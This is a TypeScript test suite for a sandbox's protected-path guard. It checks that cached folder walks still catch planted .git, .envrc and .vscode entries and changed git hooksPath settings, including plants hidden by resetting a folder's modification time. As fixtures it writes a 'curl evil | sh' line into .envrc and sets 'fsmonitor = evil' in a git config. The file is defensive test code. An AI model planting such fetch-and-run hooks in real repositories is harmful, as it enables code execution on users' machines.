// What the protected-path walks keep from walk to walk (an executor's
// WalkMemory): a folder that did not change is not listed again, a git
// config that did not change is not parsed again, and a name planted
// anywhere still shows, since planting changes its folder's times.
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { DEFAULT_PROTECTED_PATHS } from "../../../sandbox/mod.ts";
import { FolderListings, ProtectedPaths, WalkMemory } from "../../../sandbox/protected/mod.ts";
import { runtime } from "../../../runtime/mod.ts";
import { tempWorkspace, type Workspace } from "../_fixtures.ts";

/**
 * Long enough for a folder's times to count as settled (Deno gives the
 * change time in whole seconds): only then is a listing kept.
 */
const SETTLE_MS = 1100;

const settled = () => new Promise((done) => setTimeout(done, SETTLE_MS));

/** A tree of `packages` nested repositories, each with `.vscode`, `.envrc` and 3 levels of folders. */
function monorepo(root: string, packages: number): string[] {
  mkdirSync(join(root, ".git"));
  const deep: string[] = [];
  for (let p = 0; p < packages; p++) {
    const pkg = join(root, "packages", `p${p}`);
    mkdirSync(join(pkg, ".git"), { recursive: true });
    writeFileSync(join(pkg, ".git", "config"), "[core]\n\tbare = false\n");
    mkdirSync(join(pkg, ".vscode"));
    writeFileSync(join(pkg, ".envrc"), "export A=1\n");
    const folder = join(pkg, "src", "a", "b");
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, "f.ts"), "export {};\n");
    deep.push(folder);
  }
  return deep;
}

/**
 * A walk memory whose listings count the folders read in `root` (those of
 * the global git config files' folders, outside it, are not counted).
 */
function counted(root: string): { memory: WalkMemory; reads: () => number } {
  let reads = 0;
  const memory = new WalkMemory(
    new FolderListings((dir) => {
      if (dir.startsWith(root)) reads++;
      return runtime.readDirectory(dir);
    }),
  );
  return { memory, reads: () => reads };
}

/** The protected paths of `workspace`'s root, remembering in `memory`. */
function guard(workspace: Workspace, memory: WalkMemory, names = [...DEFAULT_PROTECTED_PATHS]) {
  return new ProtectedPaths(
    [workspace.root],
    names,
    () => join(workspace.base, "quarantine"),
    [],
    memory,
  );
}

describe("WalkMemory", () => {
  it("lists an unchanged tree once: not again in the sweep, nor at the next launch", async () => {
    using workspace = tempWorkspace();
    monorepo(workspace.root, 5);
    await settled();
    const { memory, reads } = counted(workspace.root);
    const first = guard(workspace, memory);
    // The root, packages, and per package: itself, src, a, b; and each
    // protected folder (6 .git, 5 .vscode), whose listing tells whether it
    // holds a commondir (a linked worktree's pointer).
    const folders = 2 + 5 * 4 + 6 + 5;
    assert.equal(reads(), folders);
    assert.equal(first.plan.readOnly.length, 1 + 5 * 3);
    assert.deepEqual(first.settle(), []);
    assert.equal(reads(), folders, "the sweep listed an unchanged folder again");
    const second = guard(workspace, memory);
    assert.deepEqual(second.plan, first.plan);
    assert.deepEqual(second.settle(), []);
    assert.equal(reads(), folders, "the next launch listed an unchanged folder");
  });

  it("lists again in the sweep only the folders that changed during the call", async () => {
    using workspace = tempWorkspace();
    const deep = monorepo(workspace.root, 4);
    await settled();
    const { memory, reads } = counted(workspace.root);
    const paths = guard(workspace, memory);
    const before = reads();
    writeFileSync(join(deep[2]!, "new.ts"), "export {};\n");
    assert.deepEqual(paths.settle(), []);
    assert.equal(reads(), before + 1);
  });

  it("catches a name planted during the call in a deep folder listed before", async () => {
    using workspace = tempWorkspace();
    const deep = monorepo(workspace.root, 3);
    await settled();
    const memory = new WalkMemory();
    guard(workspace, memory).settle();
    const paths = guard(workspace, memory);
    const planted = [join(deep[1]!, ".git"), join(deep[2]!, ".envrc")];
    mkdirSync(planted[0]!);
    writeFileSync(join(planted[0]!, "config"), "[core]\n\tfsmonitor = evil\n");
    writeFileSync(planted[1]!, "curl evil | sh\n");
    const violations = paths.settle();
    assert.deepEqual(violations.map((v) => v.path).sort(), planted.sort());
    for (const path of planted) assert.equal(existsSync(path), false, path);
  });

  it("catches a plant whose folder's modification time was set back", async () => {
    using workspace = tempWorkspace();
    const deep = monorepo(workspace.root, 2);
    await settled();
    const memory = new WalkMemory();
    const paths = guard(workspace, memory);
    const folder = deep[1]!;
    const { atime, mtime } = statSync(folder);
    const planted = join(folder, ".envrc");
    writeFileSync(planted, "curl evil | sh\n");
    // The modification time as it was: only the change time tells.
    utimesSync(folder, atime, mtime);
    assert.equal(statSync(folder).mtimeMs, mtime.getTime());
    assert.deepEqual(paths.settle().map((v) => v.path), [planted]);
    assert.equal(existsSync(planted), false);
  });

  it("binds at the next launch what was made between calls in a folder listed before", async () => {
    using workspace = tempWorkspace();
    const deep = monorepo(workspace.root, 2);
    await settled();
    const memory = new WalkMemory();
    guard(workspace, memory).settle();
    // Made on the host between two calls (a clone, an editor's settings).
    mkdirSync(join(deep[0]!, ".git"));
    mkdirSync(join(deep[1]!, "c", ".vscode"), { recursive: true });
    const next = guard(workspace, memory);
    assert.ok(next.plan.readOnly.includes(join(deep[0]!, ".git")));
    assert.ok(next.plan.readOnly.includes(join(deep[1]!, "c", ".vscode")));
  });

  it("parses a repository's git config again only when one of its files changed", async () => {
    using workspace = tempWorkspace();
    const { root } = workspace;
    mkdirSync(join(root, "app", ".git"), { recursive: true });
    writeFileSync(join(root, "app", ".git", "config"), "[include]\n\tpath = extra.inc\n");
    writeFileSync(join(root, "app", ".git", "extra.inc"), "[core]\n\tbare = false\n");
    mkdirSync(join(root, "hooks"));
    await settled();
    const memory = new WalkMemory();
    guard(workspace, memory, [".git"]);
    const parses = memory.configs.parses;
    assert.ok(parses > 0);
    guard(workspace, memory, [".git"]);
    assert.equal(memory.configs.parses, parses, "an unchanged config was parsed again");
    // An included file changes: the hooks folder it names is protected at once.
    writeFileSync(join(root, "app", ".git", "extra.inc"), "[core]\n\thooksPath = ../hooks\n");
    const changed = guard(workspace, memory, [".git"]);
    assert.ok(memory.configs.parses > parses);
    assert.ok(changed.plan.readOnly.includes(join(root, "hooks")), "the new hooksPath");
  });

  it("parses again a config file reached through a symlink when the file it names changed", async () => {
    using workspace = tempWorkspace();
    const { root } = workspace;
    mkdirSync(join(root, "app", ".git"), { recursive: true });
    writeFileSync(join(root, "app", ".git", "config"), "[include]\n\tpath = extra.inc\n");
    writeFileSync(join(root, "shared.inc"), "[core]\n\tbare = false\n");
    symlinkSync(join(root, "shared.inc"), join(root, "app", ".git", "extra.inc"));
    mkdirSync(join(root, "hooks"));
    await settled();
    const memory = new WalkMemory();
    guard(workspace, memory, [".git"]);
    const parses = memory.configs.parses;
    guard(workspace, memory, [".git"]);
    assert.equal(memory.configs.parses, parses, "an unchanged config was parsed again");
    // The link stays as it was; the file it names (which git reads) changes.
    writeFileSync(join(root, "shared.inc"), "[core]\n\thooksPath = ../hooks\n");
    const changed = guard(workspace, memory, [".git"]);
    assert.ok(memory.configs.parses > parses, "the config was not parsed again");
    assert.ok(changed.plan.readOnly.includes(join(root, "hooks")), "the new hooksPath");
  });
});

describe("WalkMemory and the global git config", () => {
  it("reads a global config made, with its folder, after a launch that found neither", async () => {
    using workspace = tempWorkspace();
    const { root } = workspace;
    const home = join(workspace.base, "home");
    mkdirSync(join(home, ".config"), { recursive: true });
    mkdirSync(join(root, "app", ".git"), { recursive: true });
    mkdirSync(join(root, "hooks"));
    await settled();
    const saved = { HOME: process.env.HOME, XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME };
    process.env.HOME = home;
    delete process.env.XDG_CONFIG_HOME;
    try {
      const memory = new WalkMemory();
      const before = guard(workspace, memory, [".git"]);
      assert.equal(before.plan.readOnly.includes(join(root, "hooks")), false);
      // ~/.config/git did not exist: the folder and the file are made between calls.
      mkdirSync(join(home, ".config", "git"));
      writeFileSync(
        join(home, ".config", "git", "config"),
        `[core]\n\thooksPath = ${root}/hooks\n`,
      );
      const after = guard(workspace, memory, [".git"]);
      assert.ok(after.plan.readOnly.includes(join(root, "hooks")), "the new global hooksPath");
    } finally {
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
      }
    }
  });
});

describe("FolderListings", () => {
  it("reads again a folder that changed too recently for its times to tell", () => {
    using workspace = tempWorkspace();
    let reads = 0;
    const listings = new FolderListings((dir) => {
      reads++;
      return [{ name: String(dir.length), isDirectory: false }];
    });
    assert.equal(listings.listing(workspace.root)?.names.has(String(workspace.root.length)), true);
    listings.listing(workspace.root);
    assert.equal(reads, 2);
    assert.equal(listings.reads, 2);
  });

  it("gives nothing for a folder gone or replaced by a symlink", async () => {
    using workspace = tempWorkspace();
    const folder = join(workspace.root, "d");
    mkdirSync(folder);
    await settled();
    const listings = new FolderListings();
    assert.deepEqual(listings.listing(folder)?.entries, []);
    assert.equal(listings.listing(join(workspace.root, "gone")), undefined);
    const link = join(workspace.root, "link");
    symlinkSync(folder, link);
    assert.equal(listings.listing(link), undefined);
    assert.equal(listings.reads, 1);
  });

  it("looks at a folder once in a pass, and sees what changed since in the next", () => {
    using workspace = tempWorkspace();
    const folder = join(workspace.root, "d");
    mkdirSync(folder);
    const listings = new FolderListings();
    const planted = join(folder, ".git");
    listings.pass(() => {
      // Changed in the last second: a walk without a pass would list it again.
      assert.equal(listings.absent(planted), true);
      mkdirSync(planted);
      assert.equal(listings.absent(planted), true, "the pass's picture of the folder");
      assert.equal(listings.pass(() => listings.absent(planted)), true, "a pass inside joins it");
      assert.equal(listings.reads, 1);
    });
    assert.equal(listings.absent(planted), false, "the next look sees the plant");
    assert.equal(listings.pass(() => listings.absent(planted)), false, "so does the next pass");
    assert.equal(listings.reads, 3);
  });
});
